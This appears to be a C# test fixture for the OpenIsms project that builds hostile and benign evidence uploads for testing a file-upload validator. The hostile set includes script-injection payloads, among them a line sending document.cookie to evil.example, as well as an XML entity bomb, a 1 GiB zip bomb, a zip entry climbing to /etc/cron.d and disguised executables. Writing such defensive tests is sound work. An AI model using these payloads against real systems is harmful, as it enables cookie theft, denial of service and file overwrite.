using System.IO.Compression;
using System.Text;

namespace OpenIsms.IntegrationTests.Evidence;

/// <summary>
/// Files an attacker or a careless colleague would upload as evidence, each named for what it pretends to be, and
/// ordinary files that must still be accepted. Built here, byte by byte: nothing is copied from elsewhere.
/// </summary>
public static class HostileFiles
{
    private static byte[] Ascii(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Join(params byte[][] parts) => [.. parts.SelectMany(p => p)];

    public static byte[] Pdf(string body = "1 0 obj << /Type /Catalog >> endobj") => Ascii($"%PDF-1.4\n{body}\ntrailer << /Root 1 0 R >>\n%%EOF\n");

    private static byte[] Chunk(string type, byte[] data) =>
        Join([(byte)(data.Length >> 24), (byte)(data.Length >> 16), (byte)(data.Length >> 8), (byte)data.Length], Ascii(type), data, [0, 0, 0, 0]);

    /// <summary>A structurally complete PNG: signature, IHDR, IDAT, IEND (checksums are not what is checked).</summary>
    public static byte[] Png() => PngWithPixels([0x78, 0x9C, 0x63, 0xF8, 0xCF, 0xC0, 0x00, 0x00, 0x03, 0x01, 0x01, 0x00]);

    public static byte[] PngWithText(byte[] text)
    {
        var png = Png();
        return Join(png[..33], Chunk("tEXt", text), png[33..]); // after the signature and IHDR
    }

    /// <summary>A PNG whose pixel data happens to hold bytes that look like markup: only its text chunks are read.</summary>
    public static byte[] PngWithPixels(byte[] pixels) =>
        Join([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A], Chunk("IHDR", [0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0]), Chunk("IDAT", pixels), Chunk("IEND", []));

    public static byte[] Jpeg(byte[]? comment = null) => Join([0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10], Ascii("JFIF"), [0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00],
        comment is null ? [] : Join([0xFF, 0xFE, (byte)((comment.Length + 2) >> 8), (byte)(comment.Length + 2)], comment), [0xFF, 0xD9]);

    /// <summary>A 1 × 1 GIF: header, screen with a two-colour table, one image, trailer.</summary>
    public static byte[] Gif(byte[]? extension = null) => Join(Ascii("GIF89a"), [1, 0, 1, 0, 0x80, 0, 0], [0, 0, 0, 255, 255, 255],
        extension ?? [], [0x2C, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00], [0x3B]);

    public static byte[] Zip(params (string Name, byte[] Content)[] entries)
    {
        using var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var stream = zip.CreateEntry(name, CompressionLevel.Fastest).Open();
                stream.Write(content);
            }
        }

        return memory.ToArray();
    }

    public static byte[] Docx(params (string Name, byte[] Content)[] extra) =>
        Zip([("[Content_Types].xml", Ascii("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>")),
            ("word/document.xml", Ascii("<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>Access review</w:t></w:r></w:p></w:body></w:document>")),
            .. extra]);

    /// <summary>A .docx whose one entry unpacks to a gibibyte of zeros from about a megabyte.</summary>
    public static byte[] ZipBomb()
    {
        using var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
        {
            zip.CreateEntry("[Content_Types].xml").Open().Dispose();
            using var stream = zip.CreateEntry("word/document.xml", CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1024 * 1024];
            for (var i = 0; i < 1024; i++)
            {
                stream.Write(zeros);
            }
        }

        return memory.ToArray();
    }

    public static IReadOnlyList<(string What, string Name, byte[] Content)> Hostile() =>
    [
        ("SVG with script, named .xml", "diagram.xml", Ascii("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.cookie)</script></svg>")),
        ("XHTML with script, named .xml", "export.xml", Ascii("<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><body><script>alert(1)</script></body></html>")),
        ("XML with an entity bomb", "config.xml", Ascii("<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]><l>&b;</l>")),
        ("XML with a style sheet that runs script", "report.xml", Ascii("<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"https://evil.example/x.xsl\"?><r/>")),
        ("HTML named .txt", "notes.txt", Ascii("<!DOCTYPE html><html><body><script>fetch('/api/v1/risks')</script></body></html>")),
        ("HTML with a BOM, named .txt", "bom.txt", Join([0xEF, 0xBB, 0xBF], Ascii("<html><body onload=\"alert(1)\">hello</body></html>"))),
        ("SVG named .txt", "icon.txt", Ascii("<svg onload=alert(1)></svg>")),
        ("HTML named .log", "server.log", Ascii("2026-12-01 10:00 ok\n<iframe src=\"https://evil.example\"></iframe>\n")),
        ("HTML named .md", "readme.md", Ascii("# Access review\n\n<script>alert(1)</script>\n")),
        ("A javascript: link in Markdown", "links.md", Ascii("# Links\n\n[Open the report](javascript:alert(1))\n")),
        ("HTML named .eml", "message.eml", Ascii("<html><body onload=alert(1)>Dear user</body></html>")),
        ("Plain text named .eml", "note.eml", Ascii("This is not an e-mail at all.\n")),
        ("HTML named .csv", "accounts.csv", Ascii("name,role\n<img src=x onerror=alert(1)>,admin\n")),
        ("JavaScript named .json", "data.json", Ascii("alert(document.cookie); fetch('https://evil.example/?' + document.cookie)")),
        ("JSON carrying a script", "findings.json", Ascii("{\"finding\":\"<script>alert(1)</script>\"}")),
        ("A NUL byte past the first 4 KB of a .txt", "long.txt", Join(Ascii(new string('a', 5000)), [0], Ascii("tail"))),
        ("Invalid UTF-8 past the first 4 KB of a .csv", "long.csv", Join(Ascii("a,b\n" + new string('1', 5000)), [0xC3, 0x28], Ascii("\n"))),
        ("PDF with HTML after %%EOF", "scan.pdf", Join(Pdf(), Ascii("<html><script>alert(1)</script></html>"))),
        ("PDF with HTML inside", "inside.pdf", Pdf("1 0 obj (<html><body><script>alert(1)</script></body></html>) endobj")),
        ("PDF with JavaScript", "form.pdf", Pdf("1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj")),
        ("PDF that never ends", "cut.pdf", Ascii("%PDF-1.7\n1 0 obj << >> endobj\n")),
        ("PNG with HTML after IEND", "chart.png", Join(Png(), Ascii("<html><script>alert(1)</script></html>"))),
        ("PNG cut short", "half.png", Png()[..20]),
        ("PNG with script in a text chunk", "labelled.png", PngWithText(Ascii("Comment\0<script>alert(1)</script>"))),
        ("JPEG with HTML after its end", "photo.jpg", Join(Jpeg(), Ascii("<script>alert(1)</script>"))),
        ("JPEG with script in a comment", "comment.jpeg", Jpeg(Ascii("<script>alert(1)</script>"))),
        ("GIF polyglot: header, then HTML", "anim.gif", Join(Ascii("GIF89a"), Ascii("/*<html><script>alert(1)</script>*/"))),
        ("GIF with data after its trailer", "tail.gif", Join(Gif(), Ascii("<script>alert(1)</script>"))),
        ("GIF with script in a comment block", "remark.gif", Gif(Join([0x21, 0xFE, 25], Ascii("<script>alert(1)</script>"), [0]))),
        ("WebP with data after its end", "image.webp", Join(Ascii("RIFF"), [12, 0, 0, 0], Ascii("WEBPVP8 "), [0, 0, 0, 0], Ascii("<script>alert(1)</script>"))),
        ("A 1 GiB zip bomb named .docx", "policy.docx", ZipBomb()),
        ("A JAR holding an .exe, named .zip", "tools.zip", Zip(("META-INF/MANIFEST.MF", Ascii("Manifest-Version: 1.0\nMain-Class: Evil\n")), ("Evil.class", [0xCA, 0xFE, 0xBA, 0xBE]), ("payload.exe", Ascii("MZ")))),
        ("A zip with an entry that climbs out", "backup.zip", Zip(("../../etc/cron.d/evil", Ascii("* * * * * root sh")))),
        ("A zip with 10,001 entries", "many.zip", Zip([.. Enumerable.Range(0, 10_001).Select(i => ($"f{i}.txt", Array.Empty<byte>()))])),
        ("A .docx with macros", "macro.docx", Docx(("word/vbaProject.bin", [0xD0, 0xCF, 0x11, 0xE0]))),
        ("A plain zip renamed .docx", "renamed.docx", Zip(("notes.txt", Ascii("hello")))),
        ("A .xlsx that is a JAR", "sheet.xlsx", Zip(("[Content_Types].xml", Ascii("<Types/>")), ("xl/workbook.xml", Ascii("<workbook/>")), ("a/Run.class", [0xCA, 0xFE]))),
        ("An .odt with Basic macros", "letter.odt", Zip(("mimetype", Ascii("application/vnd.oasis.opendocument.text")), ("content.xml", Ascii("<office:document-content/>")), ("Basic/Standard/Module1.xml", Ascii("<script:module/>")))),
        ("A .pptx carrying a script file", "deck.pptx", Zip(("[Content_Types].xml", Ascii("<Types/>")), ("ppt/presentation.xml", Ascii("<p/>")), ("ppt/run.js", Ascii("WScript.Shell")))),
        ("A right-to-left override hiding .exe", "report\u202Eexe.pdf", Pdf()),
        ("A zero-width space in the name", "inv\u200Boice.pdf", Pdf()),
        ("A Windows program named .pdf", "setup.pdf", Join(Ascii("MZ"), new byte[200])),
    ];

    public static IReadOnlyList<(string Name, byte[] Content)> Ordinary() =>
    [
        ("access-review.pdf", Pdf()),
        ("scan.pdf", Pdf("1 0 obj << /Length 40 >> stream\n\u0001<svg<script>javascript:/JS (x) binary page data\nendstream endobj")),
        ("pixels.png", PngWithPixels(Ascii("<svg<script>onload=1 compressed-looking bytes"))),
        ("scanned.jpg", Join(Jpeg()[..^2], [0xFF, 0xDA, 0x00, 0x02], Ascii("<script> entropy-coded data"), [0xFF, 0xD9])),
        ("notes.txt", Ascii("Checked 42 accounts; removed 3 leavers. Ratio 3 < 5 is fine.\n")),
        ("accounts.csv", Ascii("user,role\nada,admin\ngrace,auditor\n")),
        ("readme.md", Ascii("# Review\n\nAll **42** accounts checked.\n")),
        ("findings.json", Ascii("{\"accounts\":42,\"removed\":[\"x\",\"y\"]}")),
        ("export.xml", Ascii("<?xml version=\"1.0\"?><accounts><account name=\"ada\"/></accounts>")),
        ("message.eml", Ascii("From: it@example.test\r\nTo: isms@example.test\r\nSubject: Backup test\r\nDate: Mon, 30 Nov 2026 10:00:00 +0000\r\nContent-Type: text/html\r\n\r\n<html><body><p>Restore worked.</p></body></html>\r\n")),
        ("chart.png", Png()),
        ("photo.jpg", Jpeg()),
        ("anim.gif", Gif()),
        ("policy.docx", Docx()),
        ("evidence.zip", Zip(("screenshot.png", Png()), ("notes.txt", Ascii("ok")))),
    ];
}
